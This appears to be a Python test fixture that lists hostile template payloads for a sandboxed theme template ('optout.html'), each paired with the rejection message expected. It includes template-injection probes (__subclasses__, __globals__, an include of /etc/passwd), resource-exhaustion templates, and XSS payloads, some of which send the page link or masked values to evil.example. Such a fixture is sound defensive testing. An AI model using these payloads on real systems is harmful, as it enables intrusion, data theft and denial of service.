"""Templates that mean harm: each is a theme's `optout.html`, with what its author must be told; None: a harmless page.

`HOSTILE` are whole templates; `IN_CONTENT` stand inside the page's content, where the rest of the page is as shipped.
"""

WRAP = """{{% extends "~/public/optout.html" %}}{{% block content %}}{{{{ super() }}}}{}{{% endblock %}}"""

# Reading what is not a template's to read.
READING = {
    "the class of a text": ("{{ ''.__class__ }}", "`.__class__` is not for templates"),
    "all classes there are": ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "not for templates"),
    "the class by a subscript": ("{{ ''['__class__'] }}", "not for templates"),
    "the class by a name put together": ("{{ ''['__cla' ~ 'ss__'] }}", "not for templates"),
    "the class by a filter": ("{{ ''|attr('__class__') }}", "no filter `attr`"),
    "the class of a list": ("{{ [].__class__ }}", "not for templates"),
    "the class of a dict": ("{{ {}.__class__ }}", "__class__"),
    "the globals of gettext": ("{{ gettext.__globals__ }}", "not for templates"),
    "the wrapped gettext": ("{{ gettext.__wrapped__ }}", "not for templates"),
    "the globals of a macro": ("{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}", "not for templates"),
    "the environment of a macro": ("{% macro m() %}{% endmacro %}{{ m._environment }}", "not for templates"),
    "the environment by self": (
        "{{ self._TemplateReference__context }}",
        "no block `_TemplateReference__context`",
    ),
    "the context by a block": ("{% block b %}{% endblock %}{{ self.b._stack }}", "not for templates"),
    "the loop's insides": ("{% for a in [1] %}{{ loop._iterator }}{% endfor %}", "not for templates"),
    "a module's insides": (
        "{% import '~/public/fragments.html' as f with context %}{{ f._body_stream }}",
        "no macro `_body_stream`",
    ),
    "a module's class": (
        "{% import '~/public/fragments.html' as f with context %}{{ f.__class__ }}",
        "no macro",
    ),
    "the globals of a range": ("{{ range.__self__ }}", "not for templates"),
    "cycler": ("{{ cycler.__init__.__globals__ }}", "`cycler` is unknown here"),
    "lipsum": ("{{ lipsum.__globals__ }}", "`lipsum` is unknown here"),
    "namespace": ("{% set n = namespace(a=1) %}{{ n.a }}", "`namespace` is unknown here"),
    "dict": ("{{ dict(a=1) }}", "`dict` is unknown here"),
    "config": ("{{ config }}", "`config` is unknown here"),
    "request": ("{{ request.environ }}", "`request` is unknown here"),
    "format strings": ("{{ '{0.__class__}'.format(1) }}", "`.format` is not for templates"),
    "format maps": ("{{ '{a.__class__}'.format_map({'a': 1}) }}", "`.format_map` is not for templates"),
    "the format filter": ("{{ '%s'|format(1) }}", "no filter `format`"),
    "map by attribute": ("{{ [1]|map(attribute='__class__')|list }}", "no filter `map`"),
    "group by attribute": ("{{ [1]|groupby('__class__') }}", "no filter `groupby`"),
    "sort by attribute": ("{{ [1]|sort(attribute='__class__') }}", "no filter `sort`"),
    "unique by attribute": ("{{ [1, 2]|unique(attribute='__class__')|list }}", "not for templates"),
    "pretty printing": ("{{ sender|pprint }}", "no filter `pprint`"),
    "the file of passwords": ("{% include '/etc/passwd' %}", "no template `/etc/passwd`"),
    "a file above": ("{% include '../../pyproject.toml' %}", "no template"),
    "a file above what is shipped": ("{% include '~/public/../sandbox/layout.html' %}", "no template"),
    "an encoded text": ("{{ 'a'.encode('idna') }}", "`.encode` is not for templates"),
    "a mapped text": ("{{ 'a'.translate({97: 'xx'}) }}", "`.translate` is not for templates"),
    "changing what is given": ("{{ languages.append(1) }}", "not for templates"),
    "changing a sender": ("{{ sender.update({'name': 'x'}) }}", "update"),
    "the debug tag": ("{% debug %}", "`debug` is no tag"),
    "the do tag": ("{% do 1 %}", "`do` is no tag"),
}

# Taking the machine.
TAKING = {
    "a huge power": ("{{ 9**(9**8) }}", "`**` is not for templates"),
    "a huge power that never runs": ("{% if false %}{{ 9**9**9 }}{% endif %}", "`**` is not for templates"),
    "huge numbers": ("{{ 999999999 * 999999999 * 999999999 }}", "number is too large"),
    "a number of many digits": ("{{ %s }}" % ("9" * 5000), ""),
    "a huge text": ("{{ 'a' * 10**8 }}", ""),
    "a text times a number": ("{{ 'a' * 100000000 }}", "`*` is for numbers"),
    "a list times a number": ("{{ ([0] * 100000000)|length }}", "`*` is for numbers"),
    "percent on a text": ("{{ '%0999999999d' % 1 }}", "`%` is for numbers"),
    "percent in gettext": ("{{ gettext('%(a)0999999999d', a=1) }}", "followed by `(name)s`"),
    "percent in ngettext": ("{{ ngettext('%(num)0999999999d', 'b', 1) }}", "followed by `(name)s`"),
    "padding": ("{{ 'a'.ljust(1000000000) }}", "`.ljust` is not for templates"),
    "centring": ("{{ 'a'|center(1000000000) }}", "no filter `center`"),
    "indenting": ("{{ 'a'|indent(1000000000) }}", "no filter `indent`"),
    "rounding": ("{{ 1.5|round(1000000000) }}", None),
    "an endless range": ("{% for a in range(1000000000) %}x{% endfor %}", "`range` counts to 1000"),
    "a range longer than numbers": ("{% for a in range(" + "9" * 30 + ") %}x{% endfor %}", "`range` counts"),
    "nested ranges, silent": (
        "{% for a in range(999) %}{% for b in range(999) %}{% for c in range(999) %}{% endfor %}{% endfor %}{% endfor %}",
        "longer than a second",
    ),
    "nested ranges, loud": (
        "{% for a in range(999) %}{% for b in range(999) %}xxxxxxxxxxxx{% endfor %}{% endfor %}",
        "far too long",
    ),
    "a macro that calls itself": ("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "without end"),
    "a macro that calls itself twice": (
        "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(40) }}",
        "longer than a second",
    ),
    "a template that includes itself": ("{% include 'optout.html' %}", "without end"),
    "a block that shows itself": ("{% block b %}{{ self.b() }}{% endblock %}", "without end"),
    "a recursive loop": (
        "{% for a in [1] recursive %}{{ loop([1]) }}{% endfor %}",
        "without end",
    ),
    "doubling a text": (
        "{% macro m(t, n) %}{% if n %}{{ m(t ~ t, n - 1) }}{% endif %}{% endmacro %}{{ m('aaaaaaaa', 40) }}",
        "text is too long",
    ),
    "doubling a text by plus": (
        "{% macro m(t, n) %}{% if n %}{{ m(t + t, n - 1) }}{% endif %}{% endmacro %}{{ m('aaaaaaaa', 40) }}",
        "text is too long",
    ),
    "doubling by replace": (
        "{% macro m(t, n) %}{% if n %}{{ m(t|replace('a', 'aaaa'), n - 1) }}{% endif %}{% endmacro %}{{ m('a', 40) }}",
        "text is too long",
    ),
    "doubling by join": (
        "{% macro m(t, n) %}{% if n %}{{ m([t, t]|join(t), n - 1) }}{% endif %}{% endmacro %}{{ m('a', 40) }}",
        "text is too long",
    ),
    "doubling a list": (
        "{% macro m(t, n) %}{% if n %}{{ m(t + t, n - 1) }}{% endif %}{% endmacro %}{{ m([1, 2], 40) }}",
        "list is too long",
    ),
    "doubling by blocks of text": (
        (
            "{% macro m(n) %}{% if n %}{% set t %}{{ m(n - 1) }}{{ m(n - 1) }}{% endset %}{{ t }}{{ t }}{{ t }}{{ t }}"
            "{% else %}aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa{% endif %}{% endmacro %}{{ m(14) }}"
        ),
        "",
    ),
    "a list of lists": (
        "{% macro m(t, n) %}{% if n %}{{ m([t, t, t, t], n - 1) }}{% else %}{{ t }}{% endif %}{% endmacro %}{{ m([1], 30) }}",
        "",
    ),
    "deep brackets": ("{{ " + "(" * 20_000 + "1" + ")" * 20_000 + " }}", ""),
    "deep lists": ("{{ " + "[" * 5_000 + "]" * 5_000 + " }}", ""),
    "deep ifs": ("{% if 1 %}" * 500 + "x" + "{% endif %}" * 500, ""),
    "deep elements": ("<div>" * 20_000, "far too long"),
    "many elements": ("<b>" * 2_900, None),
    "many blanks": (" " * 100_000 + "x", None),
    "nested trans": ("{% trans %}a{% trans %}b{% endtrans %}{% endtrans %}", ""),
    "a surrogate": (r"{{ '\ud800' }}", "character that no text has"),
    "zero": ("{{ 1 / 0 }}", "division by zero"),
    "what is not there": ("{{ maskd }}", "`maskd` is unknown here"),
    "not a template": ("{% if %}", "Expected an expression"),
    "never closed": ("{% block content %}", ""),
}

# Reaching the person who reads. Each of these must have been taken out, and been named.
REACHING = {
    "a script": ("<script>alert(1)</script>", "<script> is not allowed"),
    "a script in capitals": ("<SCRIPT SRC=//evil.example></SCRIPT>", "<script> is not allowed"),
    "a script by |safe": ("{{ '<script>1</script>'|safe }}", "no filter `safe`"),
    "a script by autoescape": ("{% autoescape false %}{{ '<script>' }}{% endautoescape %}", "always on"),
    "a script by gettext": ("{{ gettext('<script>alert(1)</script>') }}", "<script> is not allowed"),
    "a script by trans": ("{% trans %}<script>alert(1)</script>{% endtrans %}", "<script> is not allowed"),
    "a script in a comment": ("<!--><script>alert(1)</script>-->", "<script> is not allowed"),
    "an event": ("<p onclick=alert(1)>x</p>", '`onclick="alert(1)"` of <p>'),
    "an event without a blank": ("<p/onmouseover=alert(1)>x</p>", "`onmouseover"),
    "an event on a drawing": ("<svg onload=alert(1)></svg>", "`onload"),
    "an autofocus event": ("<input autofocus onfocus=alert(1)>", "`onfocus"),
    "a style": ("<style>button{display:none}</style>", "<style> is not allowed"),
    "a style attribute": ("<p style='position:fixed;inset:0'>x</p>", "`style="),
    "a link to a style": ("<link rel=stylesheet href=https://evil.example>", "<link> is not allowed"),
    "a frame": ("<iframe src=https://evil.example></iframe>", "<iframe> is not allowed"),
    "a frame with a document": ("<iframe srcdoc='<script>1</script>'></iframe>", "<iframe> is not allowed"),
    "an object": ("<object data=https://evil.example></object>", "<object> is not allowed"),
    "an embed": ("<embed src=https://evil.example>", "<embed> is not allowed"),
    "a base": ("<base href=https://evil.example>", "<base> is not allowed"),
    "a refresh": ("<meta http-equiv=refresh content='0;url=https://evil.example'>", "<meta> is not allowed"),
    "a drawing with a foreign object": (
        "<svg><foreignObject><script>1</script></foreignObject></svg>",
        "is not allowed",
    ),
    "a drawing that uses another": (
        "<svg><use href='https://evil.example#a'/></svg>",
        "<use> is not allowed",
    ),
    "a drawing that moves": ("<svg><animate onbegin=alert(1)></svg>", "<animate> is not allowed"),
    "mathematics": ("<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "is not allowed"),
    "confusion of parsers": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "is not allowed",
    ),
    "a template element": ("<template><script>1</script></template>", "<template> is not allowed"),
    "no script": ("<noscript><p title='</noscript><script>1</script>'></noscript>", "is not allowed"),
    "a javascript address": ("<a href='javascript:alert(1)'>x</a>", '`href="javascript:alert(1)"`'),
    "a javascript address with a tab": ("<a href='java&#9;script:alert(1)'>x</a>", "`href="),
    "a data address": ("<a href='data:text/html,<script>1</script>'>x</a>", "`href="),
    "an address of any scheme": ("<a href='//evil.example'>x</a>", '`href="//evil.example"`'),
    "an unencrypted address": ("<a href='http://evil.example'>x</a>", "`href="),
    "a picture from elsewhere": ("<img src='https://evil.example/pixel.gif'>", "`src="),
    "a drawing as a picture": ("<img src='data:image/svg+xml;base64,AAAA'>", "`src="),
    "many pictures": ("<img srcset='https://evil.example/a 1x'>", "`srcset="),
    "a video": ("<video poster=https://evil.example></video>", "<video> is not allowed"),
    "a form to elsewhere": ("<form method=post action='https://evil.example'></form>", "`action="),
    "a form to another path": ("<form method=post action='/console/log-out'></form>", "`action="),
    "a form that asks": ("<form method=get action='{{ action }}'></form>", '`method="get"`'),
    "a button to elsewhere": ("<button formaction='https://evil.example'>x</button>", "`formaction="),
    "a button of another form": ("<button form=x>x</button>", "`form="),
    "a password field": ("<input type=password name=p>", '`type="password"`'),
    "the link told to a stranger": ("<a href='https://evil.example/?{{ link }}'>x</a>", "`href="),
    "the address told to a stranger": ("<a href='https://evil.example/{{ masked }}'>x</a>", "`href="),
    "the link told by mail": ("<a href='mailto:a@evil.example?body={{ link }}'>x</a>", "`href="),
    "a value as an address": ("<a href='{{ masked }}'>x</a>", "`href="),
    "a value as a scheme": ("<a href='{{ masked }}:alert(1)'>x</a>", "`href="),
    "a value as attributes": ("<input data-checked='{{ masked }}'>", "`data-checked="),
    "a value as an element": ("<{{ masked }}>x", None),
    "a value as an attribute's name": ("<p {{ masked }}=x>x</p>", "is not allowed"),
    "a value of another page": (r"{{ '\ufdd0typed\ufdd1' }}", "`typed` cannot be filled in here"),
    "a value of another page as an address": (r"<a href='{{ '\ufdd0typed\ufdd1' }}'>x</a>", "`href="),
    "half a value": (r"{{ '\ufdd0masked' }}", "cut to pieces"),
    "a value in capitals": ("{{ masked|upper }}", "`MASKED` cannot be filled in here"),
    "a value cut short": ("{{ masked[:3] }}", "cut to pieces"),
    "a value letter by letter": ("{% for a in masked %}{{ a }} {% endfor %}", "cannot be filled in here"),
    "braces like a value": ("{% raw %}{{masked}}{% endraw %}", None),
    "the end of the page": ("</main></body></html><p>x</p>", None),
    "a second body": ("<body onload=alert(1)>", "is not allowed"),
}

HOSTILE = {
    name: (source, told) for group in (READING, TAKING, REACHING) for name, (source, told) in group.items()
}
IN_CONTENT = frozenset(REACHING)
